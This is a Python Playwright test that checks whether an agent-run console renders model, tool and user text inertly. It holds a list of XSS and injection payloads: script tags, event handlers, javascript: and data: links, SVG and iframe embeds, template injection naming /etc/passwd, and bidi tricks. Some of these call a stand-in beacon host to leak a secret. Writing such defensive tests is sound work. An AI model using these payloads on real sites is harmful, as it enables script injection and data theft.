"""What models, tools and strangers write is shown, and does nothing: no script runs, and no request leaves."""

from __future__ import annotations

import json

from playwright.async_api import Browser, Route, expect

from activities.models.base import RequestedCall, Turn
from horarium.definitions import Agent
from tests.console.browser import console_of
from tests.engine.conftest import World
from tests.gateway.rest import Rest
from tests.support.engine import asks, call

BEACON = "https://evil.example/beacon"
HOSTILE = (
    "<script>window.hacked = 'script'</script>",
    "<img src=x onerror=\"window.hacked = 'onerror'\">",
    f'<img src="{BEACON}/1.png">',
    f"![beacon]({BEACON}/2.png?secret=1)",
    f"![beacon][ref]\n\n[ref]: {BEACON}/3.png",
    "[press](javascript:window.hacked='link')",
    "[press](JaVaScRiPt&colon;window.hacked='entity')",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "<svg onload=\"window.hacked='svg'\"><script>window.hacked='inner'</script></svg>",
    f'<svg><image href="{BEACON}/4.svg"/><use href="{BEACON}/5.svg#x"/></svg>',
    f'<iframe src="{BEACON}/6"></iframe><object data="{BEACON}/7"></object><embed src="{BEACON}/8">',
    f'<link rel="stylesheet" href="{BEACON}/9.css"><style>@import "{BEACON}/10.css";</style>',
    f'<meta http-equiv="refresh" content="0;url={BEACON}/11"><base href="{BEACON}/">',
    f'<form action="{BEACON}/12"><button>Approve</button></form>',
    f'<div style="background:url({BEACON}/13)" onclick="window.hacked=1">x</div>',
    "</pre></details></main><script>window.hacked = 'broken out'</script>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    '" autofocus onfocus="window.hacked=\'attribute\'" x="',
    "pay\u202e 001 evil\u202c\u200b\U000e0041",
)
NAMED = "look\"><img src=x onerror=window.hacked='name'>"


async def test_nothing_that_was_written_runs_or_is_fetched(rest: Rest, browser: Browser, world: World) -> None:
    engine = rest.engine
    all_of_it = "\n\n".join(HOSTILE)
    world.result = all_of_it
    agent = Agent("reader", model="scripted:x", tools=["look"])
    run = await engine.start(
        agent,
        Turn(
            text=all_of_it,
            calls=(RequestedCall(NAMED, NAMED, json.dumps({NAMED: all_of_it})),),
            input_tokens=1,
            output_tokens=1,
            model=HOSTILE[1],
        ),
        asks(call("look", what=all_of_it)),
        Turn(text=all_of_it, input_tokens=1, output_tokens=1, model="test"),
        input=all_of_it,
        requested_by=HOSTILE[1],
        metadata={"note": HOSTILE[1]},
    )
    assert (await engine.finish(run)).status == "completed"
    thread = (await run.record()).thread_id
    steps = [step.number for step in await run.steps()]
    asked: list[str] = []

    async with console_of(browser, rest) as console:

        async def watched(route: Route) -> None:
            asked.append(route.request.url)
            await (route.continue_() if route.request.url.startswith(console.url) else route.abort())

        await console.page.route("**/*", watched)
        for path in (
            "/runs",
            f"/runs?text={HOSTILE[1]}&agent={HOSTILE[1]}",
            f"/runs/{run.id}",
            *(f"/runs/{run.id}/steps/{number}" for number in steps),
            f"/threads/{thread}",
        ):
            page = await console.see(path)
            for closed in await page.locator("details:not([open]) > summary").all():
                if await closed.is_visible():
                    await closed.click()
            # All elements are ours: nothing that loads, frames or embeds, and no address but ours and plain links.
            found = await page.evaluate(
                """() => ({
                    hacked: window.hacked ?? null,
                    bad: document.querySelectorAll(
                        "main :is(img, iframe, object, embed, style, script, meta, base, link, svg image, svg use)"
                    ).length,
                    handlers: [...document.querySelectorAll("*")].filter(
                        (one) => [...one.attributes].some((a) => a.name.startsWith("on") || a.name === "style")).length,
                    links: [...document.querySelectorAll("a[href]")].map((one) => one.getAttribute("href")),
                    forms: [...document.forms].map((one) => one.action),
                })"""
            )
            assert (found["hacked"], found["bad"], found["handlers"]) == (None, 0, 0), path
            assert not [link for link in found["links"] if ":" in link.partition("/")[0] and "http" not in link[:5]]
            assert all(action.startswith(console.url) for action in found["forms"])
            text = await console.main()
            assert "\u202e" not in text, path
            await expect(page.locator("h1")).to_have_count(1)
        await console.see(f"/runs/{run.id}")
        answer = console.page.locator(".answer")
        assert "<script>window.hacked" in await answer.inner_text()
        assert await answer.locator("a[href^='javascript'], a[href^='data']").count() == 0
        # The file of a step is saved, and never shown.
        output = await rest("GET", f"/v1/runs/{run.id}/steps/{steps[-2]}/output", None)
        assert output.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in output.headers["content-security-policy"]

    assert [url for url in asked if not url.startswith(console.url)] == []
